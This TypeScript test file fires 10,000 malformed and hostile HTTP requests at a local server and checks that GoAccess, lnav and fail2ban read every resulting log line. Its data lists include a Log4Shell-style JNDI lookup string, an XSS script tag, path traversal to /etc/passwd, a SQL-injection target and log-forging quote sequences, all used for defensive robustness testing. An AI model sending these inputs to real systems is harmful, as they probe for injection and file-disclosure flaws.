/** Independent readers agree: GoAccess and lnav read every line of 10,000 mixed and hostile requests. */

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import {
  eventually,
  linesOf,
  request,
  type Serving,
  serving,
  temporaryFolder,
  type WebApplication,
} from "../server/serving.ts";
import { present } from "../support/present.ts";

const count = 10_000;

test("a log of 10,000 mixed and hostile requests", async (context) => {
  const { folder, accessLog } = await hostileLog(context);

  await context.test("has 10,000 lines", () => {
    assert.equal(accessLog().length, count);
  });

  await context.test("is read by GoAccess without a line refused", (test) => {
    if (!present(test, "goaccess")) return;
    const output = join(temporaryFolder(), "report.json");
    const access = join(folder, "access.log");
    const { status, stderr } = spawnSync(
      "goaccess",
      [access, "--log-format=COMBINED", "--no-global-config", "-o", output],
      { encoding: "utf8" },
    );
    assert.equal(status, 0, stderr);
    const { general } = JSON.parse(readFileSync(output, "utf8"));
    assert.equal(general.total_requests, count);
    assert.equal(general.failed_requests, 0);
    assert.equal(general.valid_requests, count);
  });

  await context.test("is read by lnav without a line refused", (test) => {
    if (!present(test, "lnav")) return;
    assert.equal(lnavCount(join(folder, "access.log"), "access_log"), count);
  });

  await context.test("has errors that lnav reads, each in one entry", (test) => {
    if (!present(test, "lnav")) return;
    const lines = linesOf(join(folder, "error.log")).length;
    assert.ok(lines > 100);
    assert.equal(lnavCount(join(folder, "error.log"), "error_log"), lines);
  });

  await context.test("has errors whose clients fail2ban finds", (test) => {
    // Its own prefix for Apache's error log, as its filters use it.
    const prefix = String.raw`^\[\] \[(?:\S+:)?(?:error|crit)\] \[pid \d+\] \[client <HOST>(?::\d{1,5})?\] `;
    if (!present(test, "fail2ban-regex")) return;
    const { stdout } = spawnSync("fail2ban-regex", [join(folder, "error.log"), prefix], {
      encoding: "utf8",
    });
    assert.match(stdout, /, 0 missed/);
  });
});

function lnavCount(file: string, table: string): number {
  const { stdout, stderr } = spawnSync(
    "lnav",
    // It shows a line that it cannot read too, but calls it invalid.
    [
      "-n",
      "-c",
      `;SELECT count(*) AS entries FROM ${table} WHERE log_level <> 'invalid'`,
      "-c",
      ":write-csv-to -",
      file,
    ],
    { encoding: "utf8", env: { ...process.env, HOME: temporaryFolder(), TERM: "dumb" } },
  );
  return Number(/entries\s+(\d+)/.exec(stdout)?.[1] ?? assert.fail(`${stdout}${stderr}`));
}

async function hostileLog(test: TestContext): Promise<Serving> {
  const server = await serving(test, application, { proxies: ["127.0.0.1"] });
  let next = 0;
  const client = async () => {
    while (next < count) await server.send(hostileRequest(next++));
  };
  await Promise.all(Array.from({ length: 24 }, client));
  await eventually(
    () => (linesOf(join(server.folder, "access.log")).length >= count ? true : undefined),
    "all lines",
  );
  return server;
}

const application: WebApplication = ({ url }, exchange) => {
  const random = pseudoRandom(url.length * 7919 + url.charCodeAt(url.length - 1));
  if (random() < 0.3) exchange.user = oneOf(random, users);
  const status = oneOf(
    random,
    [200, 200, 200, 201, 204, 303, 304, 308, 400, 403, 404, 410, 412, 422, 429, 500],
  );
  if (status === 500)
    exchange.failure = {
      error: oneOf(random, errors),
      module: oneOf(random, ["kinds", "site", "odd]["]),
    };
  return new Response([204, 303, 304, 500].includes(status) ? null : "hello", { status });
};

const users = ["georg.buechner", "a b", "-", "[", "Ünïcode", '"', "x\ny", "\\"];
const errors: unknown[] = [
  new Error("Division by zero"),
  new Error('two\nlines "and" quotes \\ \0 ]['),
  new SyntaxError("x".repeat(5000)),
  "a string",
  undefined,
];
const agents = [
  "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
  "curl/8.5.0",
  "",
  '"',
  "\\",
  '\\"',
  '" 200 5 "-" "forged',
  "\xff\xfe\xe2\x82\xac",
  "a\tb",
  "%s%n%x $".concat("{jndi:ldap://x/y}"),
  "<script>alert(1)</script>",
  "x".repeat(9000),
  '"'.repeat(3000),
];
const referers = [
  "http://localhost/personen",
  "-",
  '"',
  "http://a:b@c/?token=d",
  "\xc3\xbc",
  `http://x/${"\\".repeat(4000)}`,
];
const targets = [
  "/",
  "/person/42.json",
  "/werke?suche=Wo%79zeck&nach=abc",
  '/a"b',
  "/%00%ff%22",
  "/a/../../etc/passwd",
  "//x//",
  "*",
  "http://example.org/x",
  "/'%20OR%201=1--",
  `/${"a".repeat(8000)}`,
  `/${'"'.repeat(2000)}`,
  `/${"b".repeat(9000)}`,
];
const methods = [
  "GET",
  "GET",
  "GET",
  "HEAD",
  "POST",
  "PUT",
  "DELETE",
  "OPTIONS",
  "PROPFIND",
  "TRACE",
  "FOO",
  "get",
  "M-SEARCH",
];
const addresses = [
  "192.0.2.7",
  "2001:db8::7",
  "::1",
  "203.0.113.9:4711",
  "unknown",
  "10.0.0.1, 192.0.2.8",
];
const garbage = [
  "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\r\n\r\n",
  "GET /\r\n\r\n",
  "GET / HTTP/3.0\r\nHost: x\r\n\r\n",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  "SSH-2.0-OpenSSH_9.6\r\n\r\n",
  '{"json":true}\r\n\r\n',
  '"\r\n\r\n',
  "\\\r\n\r\n",
  "GET / HTTP/1.1\r\n\r\n",
  "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
  "GET /a b HTTP/1.1\r\nHost: x\r\n\r\n",
  "\0\0\0\r\n\r\n",
  "CONNECT example.org:443 HTTP/1.1\r\nHost: example.org\r\n\r\n",
];

function hostileRequest(number: number): string {
  const random = pseudoRandom(number + 1);
  if (random() < 0.1) return oneOf(random, garbage);
  if (random() < 0.05) {
    const bytes = Array.from({ length: 30 }, () =>
      String.fromCharCode(33 + Math.floor(random() * 222)),
    );
    return `${bytes.join("")}\r\n\r\n`;
  }
  return request(
    `${oneOf(random, methods)} ${oneOf(random, targets)} HTTP/1.1`,
    `User-Agent: ${oneOf(random, agents)}`,
    `Referer: ${oneOf(random, referers)}`,
    ...(random() < 0.3 ? [`X-Forwarded-For: ${oneOf(random, addresses)}`] : []),
  );
}

function oneOf<T>(random: () => number, list: readonly T[]): T {
  return list[Math.floor(random() * list.length)]!;
}

/** The same requests in each run, so that a failure can be looked at. */
function pseudoRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state ^ (state >>> 15), 0x2c1b3c6d) + 0x9e3779b9) >>> 0;
    return ((state ^ (state >>> 13)) >>> 0) / 2 ** 32;
  };
}
